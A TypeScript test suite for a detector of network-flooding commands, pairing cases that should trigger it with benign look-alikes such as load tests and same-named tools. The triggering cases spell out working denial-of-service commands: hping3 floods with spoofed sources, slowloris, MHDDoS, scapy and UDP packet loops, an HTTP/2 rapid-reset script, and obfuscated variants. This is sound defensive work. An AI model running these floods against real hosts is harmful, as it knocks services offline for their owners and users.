import { indicatorTable, passes, runs, script, UNSEEN } from '../testing.ts';
import { commandFlood } from './flood.ts';

indicatorTable(commandFlood, {
  fires: {
    'a tool that is fetched by its name': script(
      'git clone -q https://github.com/someone/MHDDoS.git /m && cd /m && python3 start.py GET https://web.example.com 5 1000 p.txt 100 3600',
    ),
    'an archive of another': script('curl -sL https://github.com/someone/db1000n/archive/main.tar.gz | tar xz'),
    'forged packets in Python': runs(
      'python3',
      '-c',
      'from scapy.all import *\nwhile 1: send(IP(src="198.51.100.1",dst="192.0.2.1")/UDP(dport=53)/DNS(rd=1),verbose=0)',
    ),
    'a flood of connections': runs('hping3', '-S', '--flood', '-p', '80', '198.51.100.7'),
    'forged senders, last among the options': script('hping3 -d 120 -S -w 64 -p 443 198.51.100.7 --rand-source'),
    'behind wrappers': script('sudo timeout 3600 /usr/sbin/hping3 --flood --udp -p 53 198.51.100.7'),
    'the option in a variable': script('O=--flood; hping3 $O -S web.example.com'),
    'a tool with no other use': script('slowloris -p 80 web.example.com'),
    'another one': runs('t50', '198.51.100.7', '--flood', '-S', '--turbo'),
    'only arguments, for the entrypoint of the image': passes(
      'example.com/tools/goldeneye:2',
      'http://web.example.com/',
    ),
    'a script of Python in its repository': script('python3 slowloris.py -s 500 web.example.com'),
    'an image of nothing else, with its targets': passes(
      'example.com/x/mhddos_proxy:2',
      'https://web.example.com',
      '-t',
      '4000',
    ),
    'a tool that is named by a word, and its target': script('python3 /opt/hulk.py https://web.example.com'),
    'a tool with a host and a port': script('./xerxes web.example.com 443'),
    'a third one': script('python3 ripper.py -s 203.0.113.9 -p 443 -t 500'),
    'packets of chance in Python': runs(
      'python3',
      '-c',
      'import socket,random\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\nwhile True: s.sendto(random.randbytes(999),("203.0.113.7",random.randint(1,65535)))',
    ),
    'requests that are taken back at once': runs(
      'node',
      '-e',
      "const http2=require('http2');const c=http2.connect('https://web.example.com');setInterval(()=>{for(let i=0;i<900;i++){const r=c.request({':path':'/'});r.on('error',()=>{});r.close(8)}},10)",
    ),
    'requests of chance from many threads': runs(
      'python3',
      '-c',
      'import requests,random,threading\ndef f():\n  while True:\n    try: requests.get("https://web.example.com/?%d" % random.randint(1,10**9), timeout=1)\n    except Exception: pass\nfor i in range(500): threading.Thread(target=f).start()',
    ),
    'a long name that is cut short': script('hping3 --flo -S web.example.com'),
    'in pieces': script(`hp'in'g3 --fl"oo"d -S web.example.com`),
    'pings without a pause': script('while true; do ping -f 198.51.100.7; done'),
    'pings of a size': script('ping --flood 198.51.100.7 -s 65000'),
    'pings for years': script('ping -f -w 99999999 198.51.100.7'),
  },
  staysSilent: {
    'a line that is tested': script('ping -f -c 1000 gw.example.com'),
    'an ordinary ping': script('ping 198.51.100.7'),
    'pings of a service': script('ping -f db.shop.svc'),
    'the repository of a load test': script(
      'git clone https://github.com/example/k6-tests.git /t && k6 run /t/shop.js',
    ),
    'one packet by hand': runs('python3', '-c', 'from scapy.all import *\nsend(IP(dst="192.0.2.1")/ICMP())'),
    'metrics with a pause between': runs(
      'python3',
      '-c',
      'import socket,random,time\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\nwhile True:\n  s.sendto(b"jobs:%d|g" % random.randint(1,9),("statsd",8125)); time.sleep(10)',
    ),
    'a load test of an own service': runs(
      'python3',
      '-c',
      'import requests,random,threading\ndef f():\n  while True: requests.get("http://web.shop.svc/?%d" % random.randint(1,10**9))\nfor i in range(50): threading.Thread(target=f).start()',
    ),
    'a load test that looks at answers': runs(
      'python3',
      '-c',
      'import requests,random,threading\nok=[]\ndef f():\n  while True: ok.append(requests.get("https://web.example.com/?%d" % random.randint(1,9)).status_code)\nfor i in range(50): threading.Thread(target=f).start()',
    ),
    'a request that is given up after a time': runs(
      'node',
      '-e',
      "const http2=require('http2');const c=http2.connect('https://web.example.com');for(const p of ['/a','/b']){const r=c.request({':path':p});setTimeout(()=>r.close(http2.constants.NGHTTP2_CANCEL),5000);r.on('data',d=>console.log(d))}",
    ),
    'one metric': runs(
      'python3',
      '-c',
      'import socket;s=socket.socket(2,socket.SOCK_DGRAM);s.sendto(b"a:1|c",("statsd",8125))',
    ),
    'templates that are compiled by hulk': runs('node', '/app/hulk.js', 'templates/*.hogan'),
    'a disc that is read': script('ripper --device /dev/sr0 --output /music'),
    'a script that takes a page apart': runs('python3', '/app/ripper.py', '--input', 'https://docs.example.com/a.pdf'),
    'one packet to measure': runs('hping3', '-S', '-c', '3', '-p', '443', 'web.example.com'),
    'a load test': script('k6 run --vus 50 --duration 30s /tests/load.js'),
    'another load test': script('ab -n 1000 -c 50 http://web.shop.svc/'),
    'requests at a rate': script('echo "GET http://web.shop.svc/" | vegeta attack -rate=50 -duration=30s'),
    'the speed of a network': script('iperf3 -c iperf.shop.svc -t 10'),
    'a ping': script('ping -c 5 -i 0.2 gateway.example.com'),
    'a name in a message': script('echo "hping3 --flood is not allowed here"'),
    'its installation': script('apk add --no-cache hping3'),
  },
  cannotTell: UNSEEN,
});
